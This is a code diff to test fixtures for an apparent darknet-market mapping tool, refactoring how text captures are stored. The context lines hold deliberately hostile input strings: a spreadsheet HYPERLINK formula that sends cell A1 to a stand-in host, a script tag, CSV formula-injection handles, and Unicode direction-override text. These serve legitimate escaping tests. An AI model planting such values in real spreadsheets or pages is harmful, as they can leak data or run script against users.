@@ -11,6 +11,7 @@ listing description longer than an FtM text, not linked.
 
 from __future__ import annotations
 
+from collections.abc import Iterable
 from datetime import datetime
 from pathlib import Path
 
@@ -23,7 +24,7 @@ from darkmap.store.workspace import Workspace
 from darkmap.store.writer import Provenance, RecordWriter
 
 __all__ = ["HOSTILE_HANDLE", "HOSTILE_TITLE", "LONG_DESCRIPTION", "LONG_HANDLE", "LONG_TITLE",
-           "build_hostile", "built", "open_ro"]
+           "build_hostile", "built", "open_ro", "text_capture"]
 
 _BUILT: dict[str, Path] = {}
 HOSTILE_HANDLE = "Ev\u202eil</node>&amp;\"'\x07_\U0001F48A"
@@ -31,6 +32,17 @@ HOSTILE_TITLE = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\") <b>&lt;script&g
 LONG_TITLE = "10g MDMA " + "very pure crystal, " * 526 + "from NL"  # 10,010 characters
 LONG_HANDLE = "vendor_" + "x" * 1493  # 1,500 characters
 LONG_DESCRIPTION = "stealth shipping. " * 4000 + "PGP only"  # 72,008 characters
+
+
+def text_capture(ws: Workspace, lines: Iterable[str], name: str,
+                 at: datetime) -> tuple[RecordWriter, Provenance]:
+    """Store ``lines``, one a line, in ``ws`` as the text capture ``name`` taken ``at``: a
+    writer for the records read from it and their provenance (parser ``test@1``)."""
+    raw = "\n".join(lines).encode()
+    sha = ws.captures.put_bytes(raw)
+    ws.con.execute("INSERT INTO captures VALUES (?, ?, ?, 'text/plain', ?)",
+                   [sha, len(raw), name, at])
+    return RecordWriter(ws.con), Provenance(sha, name, "test@1", at)
 
 
 def _real(path: Path, data: Path) -> None:
@@ -56,12 +68,7 @@ def build_hostile(path: Path) -> None:
     Bitcoin address), linked and assessed, in a new workspace at ``path``."""
     t0 = datetime(2020, 1, 2, 3, 4, 5)
     with darkmap.init_workspace(path) as ws:
-        raw = f"{HOSTILE_HANDLE}\n{HOSTILE_TITLE}".encode()
-        sha = ws.captures.put_bytes(raw)
-        ws.con.execute("INSERT INTO captures VALUES (?, ?, ?, 'text/plain', ?)",
-                       [sha, len(raw), "hostile-fixture.txt", t0])
-        w = RecordWriter(ws.con)
-        prov = Provenance(sha, "hostile-fixture.txt", "test@1", t0)
+        w, prov = text_capture(ws, (HOSTILE_HANDLE, HOSTILE_TITLE), "hostile-fixture.txt", t0)
         for handle, market in ((HOSTILE_HANDLE, "alpha"), ("-2+3", "alpha"),
                                ("@SUM(A1)", "beta")):
             w.add(AccountRecord(market_id=market, handle=handle, profile_text=HOSTILE_TITLE,
@@ -86,12 +93,8 @@ def build_hostile(path: Path) -> None:
 def _long(path: Path) -> None:
     t0 = datetime(2020, 1, 2, 3, 4, 5)
     with darkmap.init_workspace(path) as ws:
-        raw = f"{LONG_HANDLE}\n{LONG_TITLE}\n{LONG_DESCRIPTION}".encode()
-        sha = ws.captures.put_bytes(raw)
-        ws.con.execute("INSERT INTO captures VALUES (?, ?, ?, 'text/plain', ?)",
-                       [sha, len(raw), "long-fixture.txt", t0])
-        w = RecordWriter(ws.con)
-        prov = Provenance(sha, "long-fixture.txt", "test@1", t0)
+        w, prov = text_capture(ws, (LONG_HANDLE, LONG_TITLE, LONG_DESCRIPTION),
+                               "long-fixture.txt", t0)
         w.add(AccountRecord(market_id="alpha", handle=LONG_HANDLE, observed_at=t0,
                             locator="profile"), prov)
         w.add(ListingRecord(market_id="alpha", listing_ref="ref-long", vendor_handle=LONG_HANDLE,
